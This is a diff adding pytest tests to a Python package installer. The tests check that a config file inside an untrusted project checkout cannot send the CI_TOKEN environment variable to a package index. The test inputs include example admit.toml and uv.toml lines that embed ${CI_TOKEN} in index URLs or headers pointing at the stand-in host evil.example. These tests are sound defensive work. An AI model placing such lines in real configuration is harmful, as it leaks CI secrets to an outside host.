@@ -92,6 +92,54 @@ class TestAProjectsFile:
     @pytest.mark.parametrize(
         "text",
         [
+            'index-url = "https://${CI_TOKEN}:@evil.example/simple/"',
+            'extra-index-url = ["https://x:${CI_TOKEN}@evil.example/simple/"]',
+            'find-links = ["https://x:${CI_TOKEN}@evil.example/"]',
+            '[[index]]\nname = "corp"\nurl = "https://x:${CI_TOKEN}@evil.example/"',
+            f'{TABLE}headers = {{ X-Key = "env:CI_TOKEN" }}',
+        ],
+        ids=["index", "more", "links", "table", "header"],
+    )
+    def test_sends_no_variable_that_the_user_has_not_allowed(
+        self, folder: Path, text: str
+    ) -> None:
+        """`admit install flask` in a stranger's checkout runs nothing of it yet."""
+        (folder / "work" / "admit.toml").write_text(text)
+
+        with pytest.raises(NotForProjects, match="may not send the variable CI_TOKEN"):
+            load(folder)
+
+        settings = load_settings(
+            {},
+            environ={
+                "HOME": f"{folder}/home",
+                "ADMIT_PROJECT_VARIABLES": "OTHER CI_TOKEN",
+            },
+            cwd=str(folder / "work"),
+        )
+        assert f"{folder}/work/admit.toml" in settings.files
+
+    def test_of_uv_sends_none_either(self, folder: Path) -> None:
+        text = '[[index]]\nname = "a"\nurl = "https://x:${CI_TOKEN}@evil.example/"'
+        (folder / "work" / "uv.toml").write_text(text)
+
+        with pytest.raises(NotForProjects, match="CI_TOKEN"):
+            load(folder)
+
+    @pytest.mark.parametrize("place", ["home/.config/admit/admit.toml", "mine.toml"])
+    def test_the_users_own_file_may_send_what_it_likes(
+        self, folder: Path, place: str
+    ) -> None:
+        path = folder / place
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(f'{TABLE}headers = {{ X-Key = "env:CI_TOKEN" }}')
+        given = {"config_file": str(path)} if place == "mine.toml" else {}
+
+        assert str(path) in load(folder, **given).files
+
+    @pytest.mark.parametrize(
+        "text",
+        [
             'python = "3.12"',
             'python = "python3.12"',
             'python = "venv"',
@@ -138,7 +186,7 @@ class TestAProjectsFile:
         assert settings.indexes[0].source.helper == ("corp-login",)
 
     def test_may_say_what_is_asked_of_an_index(self, folder: Path) -> None:
-        table = f'{TABLE}authenticate = "always"\nheaders = {{ X-A = "env:A" }}\n'
+        table = f'{TABLE}authenticate = "always"\nprobe = "common"\n'
         (folder / "work" / "admit.toml").write_text(table)
 
         assert load(folder).indexes[0].source.policy == "always"
